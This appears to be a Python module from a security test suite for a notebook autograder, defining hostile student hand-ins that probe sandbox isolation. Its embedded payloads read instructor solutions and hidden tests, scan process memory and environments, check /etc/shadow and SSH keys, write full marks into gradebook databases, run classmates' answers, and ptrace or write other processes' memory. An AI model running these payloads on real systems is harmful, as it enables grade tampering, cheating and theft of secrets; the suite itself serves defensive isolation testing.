"""Reading and writing what lies outside: tests, solutions, gradebook, classmates, memory.

What was read is printed. It holds the classmate's id or `REACHED` only where the host was reached.
"""

from pathlib import Path

from hostile.material import ASSIGNMENT, Family, Material, insert

FAMILY = Family("spies")


def spy(material: Material, folder: Path, code: str) -> None:
    """Hand in wrong answers, and a cell before the first exercise that looks around."""
    notebook = insert(material.wrong(), "mse", material.located(code))
    material.hand_in(folder, notebook)


@FAMILY.attack()
def solutions(material: Material, folder: Path) -> None:
    """The reference answers are read where the instructor keeps them, and run."""
    code = material.located("""
    import json

    try:
        for cell in json.load(open(f"{COURSE}/solutions/NAME/NAME.ipynb"))["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]), globals())
        print(REACHED, "solutions")
    except Exception as error:
        print(type(error).__name__)
    """)
    material.hand_in(folder, material.all_in_one(code.replace("NAME", ASSIGNMENT)))


@FAMILY.attack()
def hidden_tests(material: Material, folder: Path) -> None:
    """The whole file system is searched for hidden tests."""
    code = """
    import os
    import time

    until = time.time() + 6
    for top in (COURSE, os.path.dirname(COURSE), "/root", "/home", "/tmp", "/work", "/srv", "/"):
        for place, folders, files in os.walk(top):
            for name in files:
                if time.time() < until and name.endswith((".ipynb", ".json")):
                    text = open(os.path.join(place, name), errors="ignore").read()
                    if "def reference(y" + "_hat, y)" in text:
                        print(REACHED, place, name)
            if time.time() > until:
                break
    """
    spy(material, folder, code)


@FAMILY.attack()
def hidden_tests_in_memory(material: Material, folder: Path) -> None:
    """The process's own memory is searched for hidden tests and for the grader's environment."""
    code = """
    import re
    import time

    until = time.time() + 6
    with open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in open("/proc/self/maps").read().splitlines():
            start, end, how = re.match(r"(\\w+)-(\\w+) (\\S+)", line).groups()
            size = int(end, 16) - int(start, 16)
            if how.startswith("r") and size < 2**26 and time.time() < until:
                try:
                    memory.seek(int(start, 16))
                    block = memory.read(size)
                except (OSError, ValueError, OverflowError):
                    continue
                if re.search(rb"BEGIN HIDDEN TESTS(\\s|\\\\n)+import numpy", block):
                    print(REACHED, "hidden tests")
                print(re.findall(rb"HOSTILE_SECRET=[\\w-]+", block))
    """
    spy(material, folder, code)


@FAMILY.attack()
def gradebook(material: Material, folder: Path) -> None:
    """Gradebook and ledger are read, wherever they may be."""
    code = """
    import glob
    import sqlite3

    for path in glob.glob(f"{COURSE}/*.db*") + glob.glob("../../../*.db") + glob.glob("/*.db"):
        print(path, open(path, "rb").read(1_000_000))
        print(*sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute("SELECT id FROM student"))
    """
    spy(material, folder, code)


@FAMILY.attack()
def own_grade(material: Material, folder: Path) -> None:
    """Full points are written into gradebook and ledger."""
    code = """
    import contextlib
    import sqlite3

    for name in ("gradebook.db", "grading_ledger.db"):
        for order in (
            "UPDATE grade SET auto_score = max_score_gradecell, manual_score = 90",
            "UPDATE submissions SET earned = 90, state = 'graded', accepted = 'yes'",
        ):
            with contextlib.suppress(Exception):
                with sqlite3.connect(f"{COURSE}/{name}", timeout=1) as database:
                    database.execute(order)
    """
    spy(material, folder, code)


@FAMILY.attack()
def environment(material: Material, folder: Path) -> None:
    """The environment of this and every other process is printed."""
    code = """
    import glob
    import os

    print(dict(os.environ))
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            print(path, open(path, "rb").read())
        except OSError:
            pass
    """
    spy(material, folder, code)


@FAMILY.attack()
def classmates(material: Material, folder: Path) -> None:
    """All hand-ins are listed, and a classmate's answers are run."""
    code = """
    import glob
    import json
    import os

    up = [f"{COURSE}/submitted", f"{COURSE}/autograded", "..", "../..", "../../.."]
    for top in up + [f"/proc/1/root{COURSE}/submitted", f"/proc/{os.getppid()}/cwd"]:
        for path in glob.glob(f"{top}/*/*/*.ipynb") + glob.glob(f"{top}/*"):
            print(path)
            if path.endswith(".ipynb"):
                for cell in json.load(open(path))["cells"]:
                    if cell["metadata"].get("nbgrader", {}).get("solution"):
                        exec("".join(cell["source"]), globals())
    """
    material.hand_in(folder, material.all_in_one(material.located(code)))


@FAMILY.attack()
def passwords(material: Material, folder: Path) -> None:
    """Files that only root may read, and passwords and keys in homes."""
    code = """
    import glob

    patterns = ["/etc/shadow", "/etc/gshadow", "/root/.ssh/*", "/home/*/.ssh/*", f"{HOME}/.netrc"]
    for path in sum(map(glob.glob, patterns), []):
        try:
            if open(path, "rb").read(1):
                print(REACHED, path)
        except OSError:
            pass
    """
    spy(material, folder, code)


@FAMILY.attack()
def roots_of_others(material: Material, folder: Path) -> None:
    """The host's files are looked for through the roots and folders of other processes."""
    code = """
    import glob
    import os

    for link in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
        for path in (f"{link}{COURSE}/solutions", f"{link}/submitted", f"{link}{CANARY}"):
            if os.path.exists(path):
                print(REACHED, path)
                os.system(f"touch {link}{CANARY}/root")
    """
    spy(material, folder, code)


@FAMILY.attack()
def inherited_descriptors(material: Material, folder: Path) -> None:
    """Open files and folders that were left over from the process that started this one."""
    code = """
    import os

    for number in range(1024):
        try:
            target = os.readlink(f"/proc/self/fd/{number}")
            print(number, target)
            if target.startswith((COURSE, HOME)) or target.endswith((".db", ".ipynb")):
                print(REACHED, target, os.pread(number, 100, 0))
            os.stat(f"../../../../../..{COURSE}/solutions", dir_fd=number)
            print(REACHED, "from", target)
        except OSError:
            pass
    """
    spy(material, folder, code)


@FAMILY.attack()
def memory_of_others(material: Material, folder: Path) -> None:
    """The memory of the parent, of process 1 and of one on the host is read and written."""
    code = """
    import os
    import re

    for pid in {os.getppid(), 1, VICTIM}:
        try:
            for line in open(f"/proc/{pid}/maps"):
                start, end = (int(n, 16) for n in re.match(r"(\\w+)-(\\w+)", line).groups())
                if "[heap]" in line or "[stack]" in line:
                    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
                        memory.seek(start)
                        print(re.findall(rb"[ -~]{12,}", memory.read(min(end - start, 2**24))))
        except (OSError, AttributeError) as error:
            print(pid, type(error).__name__)
    """
    spy(material, folder, code)


@FAMILY.attack()
def tracing_others(material: Material, folder: Path) -> None:
    """ptrace attaches to the parent, to process 1 and to one on the host, and stops them."""
    code = """
    import ctypes
    import os

    library = ctypes.CDLL(None, use_errno=True)
    attach, seize, interrupt = 16, 0x4206, 0x4207
    for pid in {os.getppid(), 1, VICTIM}:
        print(pid, library.ptrace(attach, pid, None, None), ctypes.get_errno())
        print(pid, library.ptrace(seize, pid, None, None), library.ptrace(interrupt, pid, 0, 0))
    """
    spy(material, folder, code)


@FAMILY.attack()
def leaves_a_note(material: Material, folder: Path) -> None:
    """A note for a classmate is left wherever one can write, for a sandbox that is used again."""
    code = """
    import os
    import tempfile

    note = "-".join(["note", "from", "a", "classmate"])
    places = ["/tmp", "/var/tmp", "/dev/shm", "/run", ".", os.path.expanduser("~"), "..", "/"]
    for place in [*places, tempfile.gettempdir(), os.environ.get("JUPYTER_RUNTIME_DIR", "/tmp")]:
        try:
            open(os.path.join(place, "hostile-was-here.txt"), "w").write(note)
        except OSError:
            pass
    """
    spy(material, folder, code)


@FAMILY.attack()
def finds_a_note(material: Material, folder: Path) -> None:
    """Whatever other hand-ins left in shared places is printed."""
    code = """
    import glob
    import os

    for place in ("/tmp", "/var/tmp", "/dev/shm", "/run", ".", os.path.expanduser("~"), "..", "/"):
        print(place, sorted(os.listdir(place)) if os.access(place, os.R_OK) else "")
        for path in glob.glob(f"{place}/hostile-was-here.txt"):
            print(open(path).read())
    print([name for name in globals() if "friend" in name])
    """
    spy(material, folder, code)


@FAMILY.attack()
def names_left_behind(material: Material, folder: Path) -> None:
    """An answer is left in modules and builtins, and one that was left there is used."""
    code = """
    import builtins
    import sys

    print([getattr(each, "for_a_friend", "") for each in (builtins, sys, np, torch, check)])
    for module in (builtins, sys, np, torch, check):
        module.for_a_friend = "-".join(["note", "from", "a", "classmate"])
    print(sys.path, [name for name in sys.modules if "ipynb" in name])
    """
    spy(material, folder, code)
